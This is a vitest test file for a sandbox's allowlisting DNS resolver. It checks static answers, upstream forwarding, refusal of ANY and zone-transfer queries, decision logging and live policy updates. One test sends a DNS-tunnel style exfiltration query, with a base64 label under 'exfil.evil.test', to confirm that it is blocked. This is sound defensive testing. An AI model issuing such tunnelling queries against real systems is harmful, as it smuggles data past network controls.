import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AllowlistResolver, buildEgressPolicy, type EgressDecision } from '../../src/egress/index.js';
import { missingTools } from './support/netns.js';

const missing = await missingTools(['dig']);
if (missing.length > 0)
  console.warn('dns-server: skipped: needs dig (bind9-dnsutils, scripts/setup-host.sh)');

const silent = {
  debug() {},
  info() {},
  warn() {},
  error() {},
  child() {
    return silent;
  },
};

/** The real dig against the resolver on loopback; a second AllowlistResolver with static records is the upstream. */
describe.skipIf(missing.length > 0)('allowlisting DNS resolver', () => {
  const decisions: EgressDecision[] = [];
  let upstream: AllowlistResolver;
  let resolver: AllowlistResolver;
  let port = 0;
  const dig = async (...args: string[]) =>
    (
      await execa('dig', ['+time=2', '+tries=1', '@127.0.0.1', '-p', String(port), ...args], {
        reject: false,
      })
    ).stdout;

  beforeAll(async () => {
    upstream = new AllowlistResolver({
      sandboxId: 'upstream',
      policy: buildEgressPolicy({
        allow: [{ host: '*.example.test' }],
        dnsHosts: { 'api.example.test': '192.0.2.7' },
      }),
      upstreams: [],
      sink: () => {},
      logger: silent,
      clock: { now: () => 0 },
    });
    const [up] = await upstream.listen([{ address: '127.0.0.1', port: 0 }]);
    resolver = new AllowlistResolver({
      sandboxId: 'sbx_dns',
      policy: buildEgressPolicy({
        allow: [{ host: '*.example.test' }, { host: 'git.internal' }],
        dnsHosts: { 'git.internal': '127.0.0.9', 'unlisted.internal': '127.0.0.10' },
      }),
      upstreams: [up!],
      sink: (d) => decisions.push(d),
      logger: silent,
      clock: { now: () => 1000 },
    });
    port = (await resolver.listen([{ address: '127.0.0.1', port: 0 }]))[0]!.port;
  });

  afterAll(async () => {
    await resolver?.close();
    await upstream?.close();
  });

  it('answers a static record for an allowed internal name', async () => {
    expect((await dig('+short', 'git.internal')).trim()).toBe('127.0.0.9');
  });

  it('forwards an allowed name to the upstream, over UDP and TCP', async () => {
    expect((await dig('+short', 'api.example.test')).trim()).toBe('192.0.2.7');
    expect((await dig('+short', '+tcp', 'api.example.test')).trim()).toBe('192.0.2.7');
  });

  it('answers NXDOMAIN for an unlisted name whatever the type, and for a static record the allowlist omits', async () => {
    for (const type of ['A', 'AAAA', 'TXT', 'NULL', 'MX'])
      expect(await dig('evil.test', type)).toContain('status: NXDOMAIN');
    expect(await dig('dGhlIHNvdXJjZQ.exfil.evil.test', 'TXT')).toContain('status: NXDOMAIN');
    expect(await dig('unlisted.internal')).toContain('status: NXDOMAIN');
    expect(await dig('-x', '127.0.0.1')).toContain('status: NXDOMAIN');
  });

  it('refuses ANY and zone transfers even for an allowed name', async () => {
    expect(await dig('example.test', 'ANY')).toContain('status: REFUSED');
    expect(await dig('+tcp', 'example.test', 'AXFR')).toMatch(/REFUSED|Transfer failed/);
  });

  it('reports every query as a decision with an id', () => {
    const denied = decisions.find((d) => d.target === 'evil.test' && d.kind === 'TXT');
    expect(denied).toMatchObject({
      layer: 'dns',
      verdict: 'deny',
      reason: 'DNS_NOT_ALLOWED',
      sandboxId: 'sbx_dns',
    });
    expect(denied?.id).toMatch(/^dec_[0-9a-f]{12}$/);
    expect(decisions.find((d) => d.target === 'git.internal')).toMatchObject({
      verdict: 'allow',
      reason: 'DNS_STATIC',
    });
  });

  it('applies a new policy to the next query', async () => {
    expect(await dig('new.allowed.test')).toContain('status: NXDOMAIN');
    resolver.update(
      buildEgressPolicy({
        allow: [{ host: 'new.allowed.test' }],
        dnsHosts: { 'new.allowed.test': '127.0.0.11' },
      }),
    );
    expect((await dig('+short', 'new.allowed.test')).trim()).toBe('127.0.0.11');
    expect(await dig('git.internal')).toContain('status: NXDOMAIN');
  });

  it('fails closed with EGRESS_DNS when its port is taken', async () => {
    const other = new AllowlistResolver({
      sandboxId: 'x',
      policy: buildEgressPolicy({}),
      upstreams: [],
      sink: () => {},
      logger: silent,
      clock: { now: () => 0 },
    });
    await expect(other.listen([{ address: '127.0.0.1', port }])).rejects.toMatchObject({
      code: 'EGRESS_DNS',
    });
  });
});
